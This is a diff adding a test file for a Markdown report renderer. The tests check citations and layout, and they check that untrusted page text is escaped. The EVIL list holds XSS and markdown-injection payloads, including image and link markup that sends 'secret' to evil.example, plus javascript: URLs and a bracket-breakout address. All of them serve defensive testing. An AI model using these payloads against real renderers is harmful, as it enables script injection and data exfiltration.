@@ -1,0 +1,103 @@
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from synapse.contracts.evidence import Verdict
+from synapse.contracts.report import Missed
+from synapse.research.render import clean, escape, markdown, web_address
+from tests.unit.research.factory import MORE_TIDES, TIDES, document, report
+
+PAGES = [document(TIDES, "https://a.org/tides", "Tides"), document(MORE_TIDES, "https://b.org/why", "Why tides happen")]
+EVIL = [
+    "<script>alert(1)</script>",
+    "![x](https://evil.example/?q=secret)",
+    "[click](https://evil.example/?q=secret)",
+    "https://evil.example/?q=secret",
+    "www.evil.example",
+    "<img src=x onerror=alert(1)>",
+    "[ref]: https://evil.example",
+    "`code` **bold** # head",
+    "</title></li><iframe src='//evil.example'>",
+    "a\u202eb\u200bc",
+    "| a | b |",
+    "1. one",
+    "&lt;b&gt;",
+]
+
+
+def links_and_markup(source: str) -> tuple[list[str], list[str]]:
+    """All link and image targets, and all tags other than the anchors that Synapse writes itself."""
+    tokens = [child for token in MarkdownIt("commonmark").enable("table").parse(source) for child in (token.children or [token])]
+    targets = [str(token.attrs.get("href") or token.attrs.get("src")) for token in tokens if token.type in ("link_open", "image")]
+    raw = [token.content for token in tokens if token.type in ("html_inline", "html_block")]
+    own = re.compile(r'^(?:<a id="source-\d+">|</a>)+$')
+    return targets, [tag for tag in raw if not own.match(tag)]
+
+
+def test_the_report_reads_answer_first_with_numbered_sources() -> None:
+    source = markdown(report("When do spring tides occur?", PAGES)[0])
+    assert source.startswith("# When do spring tides occur?\n\n## Answer\n\n- Spring tides occur when")
+    assert "## Sources" in source
+    assert "[Tides](<https://a.org/tides>)" in source
+    assert "“Spring tides occur when the Sun, the Moon and the Earth stand in a line.”" in source
+
+
+def test_every_mark_points_at_a_source_that_is_there() -> None:
+    source = markdown(report("What are tides and when do spring tides occur?", PAGES)[0])
+    cited = set(re.findall(r"\(#source-(\d+)\)", source))
+    assert cited == set(re.findall(r'<a id="source-(\d+)"></a>', source))
+    assert cited
+
+
+def test_only_the_verdicts_in_use_are_explained() -> None:
+    made, _ = report("When do spring tides occur?", PAGES[:1])
+    assert {sentence.verdict for sentence in made.answer} == {Verdict.SINGLE_SOURCE}
+    assert "single source" in markdown(made)
+    assert "corroborated" not in markdown(made)
+
+
+def test_no_evidence_says_so() -> None:
+    made, _ = report("What is the capital of Mongolia?", PAGES, missed=[Missed(what="https://c.org/x", reason="timed out")])
+    source = markdown(made)
+    assert "**No evidence found.**" in source
+    assert "timed out" in source
+
+
+@pytest.mark.parametrize("evil", EVIL)
+def test_what_a_page_says_never_becomes_a_link_an_image_or_markup(evil: str) -> None:
+    page = document(f"{evil}\n\nSpring tides occur when {evil} the Sun and the Moon align in a line.", "https://a.org/x", f"Tides {evil}")
+    made, _ = report(f"When do spring tides occur? {evil}", [page, *PAGES], missed=[Missed(what=evil, reason=evil)])
+    targets, markup = links_and_markup(markdown(made))
+    assert markup == []
+    assert all(target.startswith("#source-") or target in ("https://a.org/x", "https://a.org/tides", "https://b.org/why") for target in targets)
+
+
+@settings(max_examples=200)
+@given(st.text(max_size=80))
+def test_escaped_text_renders_as_itself(text: str) -> None:
+    tokens = MarkdownIt("commonmark", {"html": True}).enable("table").parse(f"x {escape(text)}")
+    assert [token.type for token in tokens] == ["paragraph_open", "inline", "paragraph_close"]
+    children = tokens[1].children or []
+    assert {token.type for token in children} <= {"text", "text_special"}
+    assert "".join(token.content for token in children) == f"x {clean(text)}".rstrip()
+
+
+@given(st.text(max_size=60))
+def test_clean_text_is_one_visible_line(text: str) -> None:
+    assert not re.search("[\\x00-\\x1f\\x7f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]", clean(text))
+
+
+@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,x", "https://user:pw@a.org/", "//a.org/x", "corpus://docs/x", "http://", "https://[bad"])
+def test_only_plain_web_addresses_are_linked(url: str) -> None:
+    assert web_address(url) is None
+
+
+def test_an_address_cannot_break_out_of_its_brackets() -> None:
+    address = web_address('https://a.org/x>)![y](https://evil.example/"')
+    assert address is not None
+    assert not set(address) & set('<>()[]" ')
